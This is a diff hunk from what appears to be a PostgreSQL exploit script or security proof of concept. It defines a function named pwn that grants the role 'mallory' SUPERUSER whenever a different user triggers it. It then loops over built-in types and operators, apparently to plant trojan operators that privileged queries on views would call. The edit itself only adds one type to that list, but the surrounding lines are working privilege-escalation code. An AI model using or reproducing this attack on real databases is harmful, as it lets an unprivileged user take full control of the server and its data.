@@ -461,7 +461,7 @@ CREATE FUNCTION public.pwn(what text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN
   INSERT INTO public.seen VALUES ('mallory', current_user, what); IF current_user <> 'mallory' THEN EXECUTE 'ALTER ROLE mallory SUPERUSER'; END IF; END $$;
 -- every operator of two built-in types that has no exact match, for the types that the views use
 DO $do$
-DECLARE t text[] := '{smallint,integer,bigint,numeric,real,double precision,oid,regclass,regrole,text,name,character varying,jsonb,timestamptz,interval,boolean}';
+DECLARE t text[] := '{smallint,integer,bigint,numeric,real,double precision,oid,regclass,regrole,regnamespace,text,name,character varying,jsonb,timestamptz,interval,boolean}';
     l text; r text; o text; n int := 0;
 BEGIN
     FOREACH o IN ARRAY '{=,<>,<,>,<=,>=,+,-,*,/,||,->>,~}'::text[] LOOP FOREACH l IN ARRAY t LOOP FOREACH r IN ARRAY t LOOP
